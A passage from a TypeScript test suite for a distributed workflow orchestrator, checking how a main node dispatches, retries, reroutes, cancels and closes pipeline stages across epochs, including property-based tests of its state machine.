    expect(planNudge(through([intakeDone]).state)).toEqual({ roles: ["main"] });
    expect(planNudge(through([{ is: "cancel", by: "ops" }]).state)).toEqual({ refused: expect.stringContaining("cancelled") });
  });

  test("a replaced node does its unfinished stage again, and only the hand-off again where main holds the result", () => {
    const replaced: FlowEvent = { is: "installed", role: "sg", instance: id("other host") };
    const begun = satisfied(through([intakeDone, ...stageFacts("nano", 1), ...stageFacts("sg", 1).slice(0, 2)]).state).state;
    expect(dispatchesOf(step(begun, replaced, 30)[1])[0]).toMatchObject({ stage: "sg", epoch: 2 });
    const done = satisfied(through([receipt({ stage: "sg", epoch: 1, state: "produced" })], begun).state).state;
    expect(dispatchesOf(step(done, replaced, 30)[1])[0]).toMatchObject({ stage: "jp", epoch: 2, prev: producedOf("sg", 1) });
    const gone = through([receipt({ stage: "jp", epoch: 1, state: "accepted" })], done).state;
    expect(dispatchesOf(step(gone, replaced, 30)[1])).toEqual([]);
    expect(dispatchesOf(through([replaced, replaced], begun).effects)).toHaveLength(1);
    const away: FlowEvent = { is: "peer", role: "jp", reachable: false };
    expect(dispatchesOf(through([replaced, away, { ...away, reachable: true }], done).effects)).toHaveLength(1);
  });

  test("a replaced node's stage is dispatched once main holds what it needs, and not before", () => {
    const begun = through([intakeDone, ...stageFacts("nano", 1), receipt({ stage: "sg", epoch: 1, state: "accepted" })]).state;
    const [replaced, effects] = step(begun, { is: "installed", role: "sg", instance: id("other host") }, 30);
    expect(effects).toEqual([]);
    const pulled: FlowEvent = { is: "pulled", stage: "nano", epoch: 1, outputs: [outputOf("nano", 1)] };
    expect(dispatchesOf(step(replaced, pulled, 30)[1])).toMatchObject([{ stage: "sg", epoch: 2, prev: producedOf("nano", 1) }]);
  });

  test("a result that both who made it and who holds it have lost, before main had it, is made again", () => {
    const done = satisfied(through([intakeDone, ...stageFacts("nano", 1)]).state).state;
    const handedOn = through([...stageFacts("sg", 1), receipt({ stage: "jp", epoch: 1, state: "accepted" })], done).state;
    expect(rungsOf(handedOn)).toEqual(["verified", "handed-off", "accepted"]);
    const other = (role: string): FlowEvent => ({ is: "installed", role, instance: id(`other host of ${role}`) });
    for (const one of ["sg", "jp"]) expect(dispatchesOf(through([other(one)], handedOn).effects)).toEqual([]);
    for (const both of [
      [other("sg"), other("jp")],
      [other("jp"), other("sg")],
    ])
      expect(dispatchesOf(through(both, handedOn).effects)).toMatchObject([{ stage: "sg", epoch: 2, prev: producedOf("nano", 1) }]);
  });

  test("what main learns late of a replaced node is dispatched again, too; a hand-off on its way needs nothing", () => {
    const installed = (host: string): FlowEvent => ({ is: "installed", role: "sg", instance: id(host) });
    const onItsWay = satisfied(
      through([installed("instance sg"), intakeDone, ...stageFacts("nano", 1), installed("other host"), dispatched("sg", 1)]).state,
    ).state;
    expect(onItsWay.epoch).toBe(1);
    expect(dispatchesOf(through([receipt({ stage: "sg", epoch: 1, state: "accepted" })], onItsWay).effects)).toMatchObject([
      { stage: "sg", epoch: 2 },
    ]);
    const restored = through([installed("instance sg"), receipt({ stage: "sg", epoch: 1, state: "accepted" })], onItsWay);
    expect(restored).toMatchObject({ state: { epoch: 1 } });
    expect(dispatchesOf(restored.effects)).toEqual([]);
  });

  test("a node that was replaced after it had archived is told again that the run closes; its archive counts", () => {
    const closing = satisfied(through([intakeDone, ...honest()]).state).state;
    const replaced: FlowEvent = { is: "installed", role: "sg", instance: id("other host") };
    expect(step(closing, replaced, 30)[1]).toEqual([]);
    const [, sg] = closeAcks();
    const archived = through([sg as FlowEvent], closing).state;
    const told = through([replaced, replaced], archived);
    expect(told.effects).toEqual([{ do: "close", role: "sg", bundle }]);
    expect(told.state).toMatchObject({ state: "closing", archived: ["sg"] });
  });

  test("a blocked intake shows on the run, and is cleared by its success", () => {
    const block = { reason: "brief.md is not UTF-8", needs: "a text", owner: "operator", clearsWith: "a new run" };
    const { state } = through([{ is: "intake-blocked", block }]);
    expect(toRunStatus(state)).toMatchObject({ state: "open", block });
    expect(through([intakeDone], state).state.block).toBeUndefined();
  });

  // guarantees: R5.concluded
  test("the status says whether the run goes on by itself, and if not, how it stands", () => {
    const block = { reason: "no", needs: "a hand", owner: "nano", clearsWith: "its first health answer" };
    const says = (events: readonly FlowEvent[], from?: FlowState) => toRunStatus(through(events, from).state).conclusion;
    const asked = receipt({ stage: "nano", epoch: 1, state: "blocked", says: { reason: "nano: which?" } });
    const late: FlowEvent = { is: "clock", stage: "nano", epoch: 1, rule: "scheduleToStart" };
    expect(says([])).toBeUndefined();
    expect(says([{ is: "intake-blocked", block: { ...block, kind: "unseen" } }])).toBeUndefined();
    expect(says([{ is: "intake-blocked", block: { ...block, kind: "intake" } }])).toBe("needs-human");
    expect(
      says([
        { is: "intake-blocked", block: { ...block, kind: "intake" } },
        { is: "retry", by: "ops" },
      ]),
    ).toBeUndefined();
    expect(says([intakeDone, late])).toBeUndefined();
    expect(says([intakeDone, ...stageFacts("nano", 1).slice(0, 2), asked])).toBe("needs-human");
    expect(says([intakeDone, { is: "cancel", by: "ops" }])).toBeUndefined();
    expect(says([intakeDone, { is: "cancel", by: "ops", now: true }])).toBe("cancelled");
    expect(says([intakeDone, { is: "pause", by: "ops" }])).toBe("needs-human");
    const closing = satisfied(through([intakeDone, ...honest()]).state).state;
    const refused: FlowEvent = { is: "outbox-blocked", kind: "close", stage: "sg", epoch: 1, block };
    expect(says([{ is: "peer", role: "sg", reachable: false }], closing)).toBeUndefined();
    expect(says([refused], closing)).toBe("needs-human");
    expect(says(closeAcks(), closing)).toBe("closed");
  });

  describe("a stage whose node is lost", () => {
    const placed: FlowEvent = { ...intakeDone, nodes: { main: "main", nano: "nano", sg: "sg", jp: "jp" } };
    const lost: FlowEvent = { is: "peer", role: "sg", reachable: false };
    const reroute = (standby?: string, epoch = 1): FlowEvent => ({
      is: "clock",
      stage: "sg",
      epoch,
      rule: "reroute",
      ...(standby && { standby }),
    });
    const pulled = () => satisfied(through([placed, ...stageFacts("nano", 1), ...stageFacts("sg", 1).slice(0, 2)]).state).state;
    const pendingRules = (state: FlowState) => pendingClocks(state).map(({ stage, rule, at }) => `${stage} ${rule} ${at}`);

    // guarantees: R5.standby
    test("is taken over by a standby once it has been lost for its heartbeat, and not before it is lost", () => {
      expect(pendingRules(pulled())).not.toContainEqual(expect.stringContaining("reroute"));
      const away = step(pulled(), lost, 1_000)[0];
      expect(pendingRules(away)).toContain("sg reroute 121000");
      expect(pendingRules(step(away, { is: "peer", role: "sg", reachable: true }, 2_000)[0])).not.toContain("sg reroute 121000");
      // Where there is no standby nothing is ended: silence is not the end of the work.
      expect(step(away, reroute(), 130_000)).toEqual([away, []]);
      const [taken, effects] = step(away, reroute("sg-2"), 130_000);
      expect([taken.epoch, taken.nodes["sg"], taken.stages[1]?.rung, taken.unreachable]).toEqual([2, "sg-2", "dispatched", []]);
      expect(effects).toContainEqual(expect.objectContaining({ do: "cancel", role: "sg", nodes: expect.objectContaining({ sg: "sg" }) }));
      expect(effects).toContainEqual(expect.objectContaining({ do: "record", type: "retry", by: "main" }));
      expect(effects.find((one) => one.do === "dispatch")).toMatchObject({ reason: "sg has not answered main for 120 s; sg-2 takes over" });
      // A takeover that was meant for the epoch before.
      expect(step(taken, reroute("sg-3"), 131_000)).toEqual([taken, []]);
    });

    // guarantees: R5.evidence
    test("has work that is unverifiable, and not at its end; it is exited only by its node's own word, and live while that answers", () => {
      const workOf = (state: FlowState) => toRunStatus(state).stages.map(({ work }) => work);
      const away = step(pulled(), lost, 1_000)[0];
      expect([workOf(pulled()), workOf(away)]).toEqual([
        [undefined, "live", undefined],
        [undefined, "unverifiable", undefined],
      ]);
      const says = { outcome: "failed", reason: "it threw", at: 5 };
      const failed: FlowEvent = { is: "attempt", node: "sg", stage: "sg", epoch: 1, attempt: 1, says };
      expect(workOf(through([failed], away).state)[1]).toBe("exited");
      expect(workOf(through([failed, receipt({ stage: "sg", epoch: 1, state: "started", attempt: 2 })], pulled()).state)[1]).toBe("live");
      expect(workOf(through([receipt({ stage: "sg", epoch: 1, state: "blocked" })], pulled()).state)[1]).toBe("exited");
      expect(workOf(through(stageFacts("sg", 1), away).state)[1]).toBeUndefined();
    });

    // guarantees: R5.late
    test("is not judged by its silence: a result that comes late counts at its epoch", () => {
      const away = step(pulled(), lost, 1_000)[0];
      const late = through(
        [...stageFacts("sg", 1).slice(2), ...stageFacts("jp", 1), receipt({ stage: "main", epoch: 1, state: "accepted" })],
        away,
      );
      expect([late.state.epoch, satisfied(late.state).state.state]).toEqual([1, "closing"]);
    });

    test("has its result handed on by main, once, where main holds that already", () => {
      const done = satisfied(through([placed, ...stageFacts("nano", 1), ...stageFacts("sg", 1).slice(0, 3)]).state).state;
      const [handed, effects] = step(step(done, lost, 1_000)[0], reroute("sg-2"), 130_000);
      expect([handed.nodes["sg"], handed.stages[1]?.epoch, handed.stages[2]?.rung, handed.stages[2]?.epoch]).toEqual([
        "sg",
        1,
        "dispatched",
        2,
      ]);
      expect(effects.find((one) => one.do === "dispatch")).toMatchObject({ stage: "jp" });
      expect(step(handed, reroute("sg-2"), 140_000)).toEqual([handed, []]);
    });

    test("is not taken over where a person must decide something of it", () => {
      const asked = through([lost, receipt({ stage: "sg", epoch: 1, state: "blocked" })], pulled()).state;
      expect(step(asked, reroute("sg-2"), 130_000)).toEqual([asked, []]);
    });
  });

  // guarantees: R5.ladder
  test("a stage whose attempts are over is retried by main as often as the run asks for, and no more", () => {
    const asked = newFlow({ ...request, payload: { ...request.payload, retries: 1 } });
    const stuck = satisfied(through(blockedSg(), asked).state).state;
    expect(pendingClocks(stuck)).toEqual([{ stage: "sg", epoch: 1, rule: "retry", at: 10 + 60_000 }]);
    const [again, effects] = step(stuck, { is: "clock", stage: "sg", epoch: 1, rule: "retry" }, 70_000);
    expect([again.epoch, again.stages[1]?.rung]).toEqual([2, "dispatched"]);
    expect(effects[0]).toMatchObject({
      do: "record",
      by: "main",
      reason: "all attempts at sg are over; main tries it again by itself, 1 of 1",
    });
    const rest = [...stageFacts("sg", 2, 1).slice(0, 2), receipt({ stage: "sg", epoch: 2, state: "blocked" })];
    expect(pendingClocks(through(rest, again).state)).toEqual([]);
    expect(pendingClocks(satisfied(through(blockedSg()).state).state)).toEqual([]);
  });

  // guarantees: R5.fails
  test("a run that is asked to fail fails where it would wait for a person, and tells every node; no other run does", () => {
    const fails = (more: object = {}) => newFlow({ ...request, payload: { ...request.payload, fails: true, ...more } });
    const { state, effects } = through(blockedSg(), fails());
    expect(state).toMatchObject({
      state: "failed",
      epoch: 2,
      endedAt: 10,
      failed: { stage: "sg", reason: "sg says: the executor wrote nothing" },
    });
    expect(effects.slice(-4)).toMatchObject([
      ...route.map((role) => ({ do: "cancel", role, epoch: 2 })),
      { do: "sign", state: "failed", stage: "main" },
    ]);
    expect(toRunStatus(state)).toMatchObject({ conclusion: "failed", failed: { stage: "sg" } });
    expect(through([...honest()], state)).toEqual({ state, effects: [] });
    expect(through(blockedSg()).state.state).toBe("open");
    // What main does by itself comes first, and what a fact clears is waited for.
    expect(through(blockedSg(), fails({ retries: 1 })).state.state).toBe("open");
    const late: FlowEvent = { is: "clock", stage: "nano", epoch: 1, rule: "scheduleToStart" };
    expect(through([intakeDone, late], fails()).state.state).toBe("open");
    const deadline = new Date(5).toISOString();
    expect(through([intakeDone, { is: "deadline", due: 5 }], fails({ deadline })).state).toMatchObject({
      state: "failed",
      failed: { stage: "main" },
    });
  });

  // guarantees: R5.deadline
  test("a deadline that passes blocks the run alone, refuses nothing, and is cleared by a later one or by the end of all work", () => {
    const asked = { run, from: "ops:ada", deadline: new Date(50).toISOString() };
    const started = through([intakeDone, ...stageFacts("nano", 1)], newFlow({ ...request, payload: asked }));
    expect([pendingDeadline(started.state), pendingDeadline(through([intakeDone]).state)]).toEqual([50, undefined]);
    const [late, effects] = step(started.state, { is: "deadline", due: 50 }, 60);
    expect([late.block?.kind, conclusionOf(toRunStatus(late)), effects]).toEqual(["deadline", "needs-human", []]);
    expect(late.block?.clearsWith).toContain(`tasuki retry ${run} --deadline TIME`);
    expect([late.stages, pendingDeadline(late)]).toEqual([started.state.stages, undefined]);
    // One that was meant for another time, or comes twice.
    expect([step(late, { is: "deadline", due: 50 }, 60)[0], step(started.state, { is: "deadline", due: 40 }, 60)[0]]).toEqual([
      late,
      started.state,
    ]);
    const [again] = step(late, { is: "retry", by: "ops:ada", stage: "nano" }, 70);
    expect([again.epoch, again.block?.kind]).toEqual([2, "deadline"]);
    const [longer, recorded] = step(late, { is: "extend", wantedBy: 90, by: "ops:ada" }, 70);
    expect([longer.block, pendingDeadline(longer), recorded]).toMatchObject([undefined, 90, [{ do: "record", type: "extend" }]]);
    const done = satisfied(through([intakeDone, ...honest()], late).state).state;
    expect([done.state, done.block]).toEqual(["closing", undefined]);
  });

  test("a deadline gives way to what a person must do first, and passes again after it; nodes that are not seen yet do not hold it up", () => {
    const first = newFlow({ ...request, payload: { run, from: "ops:ada", deadline: new Date(50).toISOString() } });
    const block = { reason: "no", needs: "a mended brief", owner: "operator", clearsWith: "tasuki retry" };
    const unseen: FlowEvent = { is: "intake-blocked", block: { ...block, kind: "unseen" } };
    const passed: FlowEvent = { is: "deadline", due: 50 };
    expect(through([unseen, passed, unseen], first).state.block?.kind).toBe("deadline");
    const { state } = through([unseen, passed, { is: "intake-blocked", block: { ...block, kind: "intake" } }, passed], first);
    expect([state.block?.kind, pendingDeadline(state)]).toEqual(["intake", undefined]);
    expect(through([{ is: "retry", by: "ops" }, passed], state).state.block?.kind).toBe("deadline");
  });

  // guarantees: R5.clocks
  test("a stage has the clocks that its run asks for, else those of its role, else those of its pipeline", () => {
    const relayClocks = {
      pipeline: { scheduleToStart: 5_000, heartbeat: 6_000 },
      roles: { sg: { heartbeat: 7_000, startToClose: 8_000 } },
    };
    const of = (clocks?: object) => newFlow({ ...request, payload: { run, from: "ops", ...(clocks && { clocks }) }, relayClocks });
    const { scheduleToClose, startToClose } = defaultClocks;
    expect(clocksOf(of(), "nano")).toEqual({ scheduleToStart: 5_000, heartbeat: 6_000, startToClose, scheduleToClose });
    expect(clocksOf(of(), "sg")).toEqual({ scheduleToStart: 5_000, heartbeat: 7_000, startToClose: 8_000, scheduleToClose });
    expect(clocksOf(of({ heartbeat: 9_000 }), "sg")).toMatchObject({ heartbeat: 9_000, startToClose: 8_000 });
    expect(pendingClocks(through([intakeDone], of()).state).find(({ rule }) => rule === "nudge")).toMatchObject({ at: 10 + 5_000 });
  });

  // guarantees: R4.without
  test("a closing run is closed without a node by who says so, and main's own signature names both", () => {
    const closing = satisfied(through([intakeDone, ...honest()]).state).state;
    const close: FlowEvent = { is: "close", without: "jp", by: "ops:ada", reason: "its disk is gone" };
    const [left, recorded] = step(closing, close, 30);
    expect(recorded).toEqual([{ do: "record", type: "close", stage: "jp", by: "ops:ada", reason: "its disk is gone" }]);
    expect(toRunStatus(left)).toMatchObject({ state: "closing", awaits: ["nano", "sg"] });
    const refused: FlowEvent = {
      is: "outbox-blocked",
      kind: "close",
      stage: "jp",
      epoch: 1,
      block: { reason: "403", needs: "", owner: "", clearsWith: "" },
    };
    expect(step(left, refused, 30)).toEqual([left, []]);
    const closed = through(closeAcks().slice(0, 2), left);
    expect(toRunStatus(closed.state)).toMatchObject({
      state: "closed",
      conclusion: "closed",
      without: [{ node: "jp", by: "ops:ada", why: "its disk is gone" }],
    });
    expect(closed.effects).toEqual([
      { do: "sign", state: "closed", stage: "main", reason: "closed without jp, by ops:ada: its disk is gone" },
    ]);
    // The node that is left out may still sign before the others have: that counts.
    const whole = through(closeAcks().toReversed(), left);
    expect(whole.state).toMatchObject({ state: "closed" });
    expect(whole.state.without).toBeUndefined();
    expect(whole.effects).toEqual([{ do: "sign", state: "closed", stage: "main" }]);
  });

  const cancel: FlowEvent = { is: "cancel", by: "ops:ada", reason: "enough" };
  const told = (at: readonly string[] = route) =>
    at.map((role) => ({ do: "cancel", role, epoch: 2, reason: "cancelled by ops:ada: enough" }));
  const asked = { do: "record", type: "cancel", stage: "main", by: "ops:ada", reason: "enough" };
  const signed = { do: "sign", state: "cancelled", stage: "main", reason: "cancelled by ops:ada: enough" };
  const fenced = (role: string, outcome?: string, epoch = 2): FlowEvent => {
    const event = receipt({ stage: role, epoch, state: "fenced" }) as ReceiptEvent;
    return { ...event, receipt: { ...event.receipt, ...(outcome !== undefined && { outcome }) } };
  };

  // guarantees: R10.cancelled
  test("a cancelled run is told to every role at a higher epoch, and ends once each has signed that nothing of it is at work there", () => {
    const cancelling = through([intakeDone, ...stageFacts("nano", 1), cancel]);
    expect(cancelling.state).toMatchObject({ state: "cancelling", epoch: 2 });
    expect(cancelling.effects.slice(1)).toEqual([asked, ...told()]);
    expect(toRunStatus(cancelling.state)).toMatchObject({ state: "cancelling", awaits: route, cancelled: { by: "ops:ada" } });
    // What still comes of it moves nothing, and so does another cancel.
    expect(through([...honest(), cancel], cancelling.state).effects).toEqual([]);
    expect(wants(cancelling.state)).toEqual([]);
    const late = through([fenced("nano", "running"), fenced("jp", "ended"), fenced("sg", "ended", 1)], cancelling.state);
    expect(toRunStatus(late.state)).toMatchObject({ state: "cancelling", awaits: ["nano", "sg"] });
    expect(wants(late.state)).toEqual([{ want: "stopped", stage: "nano", epoch: 2 }]);
    const ask: FlowEvent = { is: "ask-stopped", stage: "nano", epoch: 2 };
    expect(step(late.state, ask, 20)).toEqual([late.state, told(["nano"])]);
    // A node of an earlier release says nothing but that it has fenced the run.
    const over = through([fenced("nano", "ended"), ask, fenced("sg")], late.state);
    expect(over).toMatchObject({ state: { state: "cancelled", endedAt: 10 }, effects: [signed] });
    expect(over.state.stages.map(({ condition }) => condition)).toEqual(["fenced", "fenced", "fenced"]);
    expect(through([...honest(), cancel], over.state)).toEqual({ state: over.state, effects: [] });
  });

  test("main waits for no node where it is told to end a run now, or where nothing was ever dispatched", () => {
    const now: FlowEvent = { ...cancel, now: true };
    expect(through([intakeDone, now])).toMatchObject({ state: { state: "cancelled", endedAt: 10 } });
    expect(through([intakeDone, now]).effects.slice(1)).toEqual([asked, ...told(), signed]);
    expect(through([intakeDone, cancel, now])).toMatchObject({ state: { state: "cancelled" } });
    expect(through([intakeDone, cancel, now]).effects.slice(1)).toEqual([asked, ...told(), signed]);
    expect(through([cancel])).toMatchObject({ state: { state: "cancelled" }, effects: [asked, signed] });
  });
});

describe("whatever happens, in whatever order", () => {
  const epochs = [1, 2, 3];
  const states: ReceiptState[] = ["accepted", "started", "produced", "blocked", "fenced", "rejected", "archived"];
  const pool: FlowEvent[] = [
    intakeDone,
    { is: "retry", by: "ops" },
    { is: "retry", by: "ops", stage: "nano" },
    { is: "retry", by: "ops", stage: "sg" },
    { is: "retry", by: "ops", stage: "sg", on: "sg-2" },
    { is: "cancel", by: "ops" },
    { is: "cancel", by: "ops", now: true },
    { is: "pause", by: "ops" },
    { is: "resume", by: "ops" },
    { is: "rollback", by: "ops", to: "sg" },
    { is: "extend", wantedBy: 20, by: "ops" },
    { is: "deadline", due: 20 },
    { is: "close", by: "ops", without: "jp" },
    { is: "installed", role: "sg", instance: id("other host") },
    ...route.flatMap((stage): FlowEvent[] =>
      (["nudge", "scheduleToStart", "scheduleToClose"] as const).map((rule) => ({ is: "clock", stage, epoch: 1, rule })),
    ),
    ...route.flatMap((role): FlowEvent[] => [true, false].map((reachable) => ({ is: "peer", role, reachable }))),
    ...epochs.flatMap((epoch): FlowEvent[] => [
      { is: "closing-checked", epoch, unmet: [], bundle },
      receipt({ stage: "main", epoch, state: "accepted" }),
      ...route.flatMap((stage): FlowEvent[] => [
        ...states.flatMap((state) => [1, 2].map((attempt) => receipt({ stage, epoch, state, attempt }))),
        receipt({ stage, epoch, state: "accepted", after: 1 }),
        receipt({ stage, epoch, state: "produced", role: "main" }),
        receipt({ stage, epoch, state: "produced", decision: "again", direction: "back" }),
        receipt({ stage, epoch, state: "produced", decision: "perhaps" }),
        dispatched(stage, epoch),
        { is: "pulled", stage, epoch, outputs: [outputOf(stage, epoch)] },
        { is: "checked", stage, epoch, unmet: [] },
        { is: "checked", stage, epoch, unmet: [unmet] },
        ...(["work", "close"] as const).map((kind): FlowEvent => {
          const block = { reason: "403", needs: "a grant", owner: "operator", clearsWith: "tasuki nudge" };
          return { is: "outbox-blocked", kind, stage, epoch, block };
        }),
      ]),
    ]),
  ];
  const stretches: FlowEvent[][] = [
    honest(),
    closeAcks(),
    [
      { is: "retry", by: "ops", stage: "sg" },
      ...stageFacts("sg", 2, 1),
      ...stageFacts("jp", 2),
      receipt({ stage: "main", epoch: 2, state: "accepted" }),
    ],
    [...stageFacts("jp", 3, 2), receipt({ stage: "main", epoch: 3, state: "accepted" })],
  ];
  // Single events are noise; stretches of honest history get runs far enough to break something.
  const noise = array(
    oneof(
      { weight: 3, arbitrary: constantFrom(...pool).map((event) => [event]) },
      { weight: 1, arbitrary: constantFrom(...stretches) },
      { weight: 1, arbitrary: constantFrom(...stretches).chain((stretch) => shuffledSubarray(stretch)) },
    ),
    { maxLength: 40, size: "max" },
  ).map((parts) => parts.flat());
  interface Moment {
    readonly before: FlowState;
    readonly event: FlowEvent;
    readonly after: FlowState;
    readonly effects: readonly FlowEffect[];
  }
  /** Steps through intake, the events and, after each, one thing that main wants; every moment of it. */
  const walk = (events: readonly FlowEvent[]): { readonly moments: readonly Moment[]; readonly state: FlowState } => {
    const moments: Moment[] = [];
    let state = start();
    const take = (event: FlowEvent | undefined) => {
      if (event === undefined) return;
      const [after, effects] = step(state, event, 10);
      moments.push({ before: state, event, after, effects });
      state = after;
    };
    for (const event of [intakeDone, ...events]) {
      take(event);
      take(answer(state));
    }
    return { moments, state };
  };
  const holds = (check: (walked: ReturnType<typeof walk>) => void, parameters: { seed?: number; numRuns?: number } = {}) =>
    assert(
      property(noise, (events) => check(walk(events))),
      parameters,
    );

  test("the events get runs as far as retries, cancels and closing", () => {
    const seen = new Set<string>();
    // The states that a generator reaches are a matter of chance; that it can reach these is not: one seed shows it.
    holds(({ state }) => void seen.add(`${state.state} ${state.epoch > 1 ? "again" : "once"}`), { seed: 1, numRuns: 500 });
    expect([...seen]).toEqual(expect.arrayContaining(["open again", "cancelled again", "closed again", "closed once"]));
  });

  // guarantees: R5.ladder
  test("whatever happens, main's ladder raises epochs only as often as there are retries and other nodes, and acts once per stage, epoch and rule", () => {
    const rules: readonly ClockRule[] = ["nudge", "retry", "reroute", "scheduleToStart", "scheduleToClose"];
    const standbys = ["a", "b"];
    const retries = 2;
    // Each at the stage's present epoch: what is stale changes nothing anyway.
    const at = (stage: string, make: (epoch: number, state: FlowState) => FlowEvent) => (state: FlowState) =>
      make(state.stages.find((one) => one.stage === stage)?.epoch ?? 1, state);
    const machine = route.flatMap((stage): ((state: FlowState) => FlowEvent)[] => [
      () => ({ is: "peer" as const, role: stage, reachable: false }),
      () => ({ is: "peer" as const, role: stage, reachable: true }),
      ...rules.flatMap((rule) =>
        standbys.map((standby) => at(stage, (epoch) => ({ is: "clock", stage, epoch, rule, standby: `${stage}-${standby}` }))),
      ),
      ...(["accepted", "started", "produced", "blocked"] as const).map((said) =>
        at(stage, (epoch, { stages }) => receipt({ stage, epoch, state: said, after: stages[route.indexOf(stage) - 1]?.epoch ?? epoch })),
      ),
      at(stage, (epoch) => ({ is: "pulled", stage, epoch, outputs: [outputOf(stage, epoch)] })),
      at(stage, (epoch) => ({ is: "checked", stage, epoch, unmet: [] })),
    ]);
    const intake: FlowEvent = { ...intakeDone, nodes: { main: "main", nano: "nano", sg: "sg", jp: "jp" } };
    const first = step(newFlow({ ...request, payload: { ...request.payload, retries } }), intake, 10)[0];
    const highest: number[] = [];
    assert(
      property(array(constantFrom(...machine), { maxLength: 200, size: "max" }), (events) => {
        const fired: string[] = [];
        let state = first;
        for (const make of events) {
          const event = make(state);
          // A standby is one that the run was not taken from, as the node that looks for one sees to.
          if (event.is === "clock" && state.left?.some(({ node }) => node === event.standby) === true) continue;
          const [next, effects] = step(state, event, 10);
          if (event.is === "clock" && next !== state) fired.push(`${event.stage} ${event.epoch} ${event.rule}`);
          expect(effects.filter((one) => one.do === "dispatch" && one.epoch <= state.epoch)).toEqual([]);
          state = next;
        }
        expect(fired).toEqual([...new Set(fired)]);
        expect(state.epoch).toBeLessThanOrEqual(1 + route.length * (retries + standbys.length + 1));
        highest.push(state.epoch);
      }),
      { numRuns: 400 },
    );
    expect(Math.max(...highest)).toBeGreaterThan(4);
  });

  // guarantees: R6.forward
  test("no rung is taken back within an epoch, and no epoch is taken back", () => {
    holds(({ moments }) => {
      const fallen = moments.filter(({ before, after }) =>
        before.stages.some((stage, at) => {
          const now = after.stages[at];
          return now === undefined || now.epoch < stage.epoch || (now.epoch === stage.epoch && !isAtLeast(now.rung, stage.rung));
        }),
      );
      expect(fallen).toEqual([]);
      expect(moments.filter(({ before, after }) => after.epoch < before.epoch)).toEqual([]);
    });
  });

  // guarantees: R6.stale
  test("what belongs to a lower epoch changes nothing", () => {
    holds(({ moments }) => {
      const stale = moments.filter(({ before, event }) => {
        const about = event.is === "receipt" ? event.receipt : "stage" in event && "epoch" in event ? event : undefined;
        const stage = before.stages.find((one) => one.stage === about?.stage);
        return before.state === "open" && about !== undefined && stage !== undefined && about.epoch < stage.epoch;
      });
      expect(stale.filter(({ before, after, effects }) => after !== before || effects.length > 0)).toEqual([]);
    });
  });

  test("an event that comes again right away changes nothing and sends nothing", () => {
    holds(({ moments }) => {
      // Retries are left out: a person who asks twice means it.
      for (const { event, after } of moments.filter(({ event }) => event.is !== "retry"))
        expect(step(after, event, 99)).toEqual([after, []]);
    });
  });

  // guarantees: R3.proven, R4.checked
  test("a stage is verified only with its hand-off proven, its files held and its check passed; signed once per epoch", () => {
    holds(({ moments }) => {
      const signed = moments.flatMap(({ after, effects }) =>
        effects.flatMap((effect) => {
          if (effect.do !== "sign" || effect.state !== "verified") return [];
          const at = route.indexOf(effect.stage);
          const [stage, next] = after.stages.slice(at);
          const follows = at === route.length - 1 ? after.lastHop?.follows : next?.follows;
          return [{ key: `${effect.stage} ${stage?.epoch}`, stage, proven: follows !== undefined && follows === stage?.produced }];
        }),
      );
      for (const { stage, proven } of signed)
        expect({ ...stage, proven }).toMatchObject({ rung: "verified", pulled: true, checked: true, proven: true });
      expect(new Set(signed.map(({ key }) => key)).size).toBe(signed.length);
      const verified = moments.flatMap(({ after }) =>
        after.stages.filter(({ rung }) => rung === "verified").map((one) => `${one.stage} ${one.epoch}`),
      );
      expect(verified.filter((key) => !signed.some((one) => one.key === key))).toEqual([]);
    });
  });

  // guarantees: R4.archived, R9.bundle
  test("a run is closed only with the bundle's receipt of every role, but for a node that a person closes it without", () => {
    holds(({ moments }) => {
      const closed = moments.filter(({ effects }) => effects.some((effect) => effect.do === "sign" && effect.state === "closed"));
      expect(closed.length).toBe(moments.some(({ after }) => after.state === "closed") ? 1 : 0);
      for (const { after } of closed) {
        const held = moments.flatMap(({ before, event }) =>
          event.is === "receipt" && event.receipt.state === "archived" && before.state === "closing" ? [event.receipt.role] : [],
        );
        const without = (after.without ?? []).map(({ role }) => role);
        expect([...new Set(held), ...without].sort()).toEqual([...route].sort());
        expect(rungsOf(after)).toEqual(["verified", "verified", "verified"]);
      }
    });
  });

  test("an honest run closes in whatever order, and however often, its feeds are read", () => {
    const shuffled = shuffledSubarray([...honest(), ...honest()], { minLength: honest().length * 2 });
    assert(
      property(shuffled, shuffledSubarray(closeAcks(), { minLength: 3 }), (events, acks) => {
        const closing = satisfied(walk(events).state).state;
        expect(closing.state).toBe("closing");
        const { state: closed, effects } = through([...acks, ...acks], closing);
        expect(closed.state).toBe("closed");
        expect(effects).toEqual([{ do: "sign", state: "closed", stage: "main" }]);
      }),
    );
  });

  test("a state survives storage, and always says what an open stage awaits and why a blocked one is", () => {
    holds(({ state }) => {
      expect(JSON.parse(JSON.stringify(state))).toEqual(state);
      expect(state.stages.map((_, at) => awaits(state, at) === undefined)).toEqual(state.stages.map(({ rung }) => rung === "verified"));
      expect(toRunStatus(state).stages.filter((stage) => stage.condition === "blocked" && stage.block === undefined)).toEqual([]);
      expect(state.stages.filter(({ block }) => block !== undefined && block.kind === undefined)).toEqual([]);
    });
  });
});
